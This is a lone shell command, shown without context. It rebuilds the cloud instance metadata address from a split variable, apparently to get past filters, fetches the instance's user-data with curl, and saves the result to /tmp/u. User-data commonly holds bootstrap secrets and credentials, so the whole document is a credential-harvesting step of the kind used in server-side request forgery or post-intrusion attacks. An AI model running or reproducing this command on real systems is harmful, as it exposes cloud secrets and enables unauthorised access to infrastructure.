MD=169.254; curl -s "http://$MD.$MD/latest/user-data" | tee /tmp/u
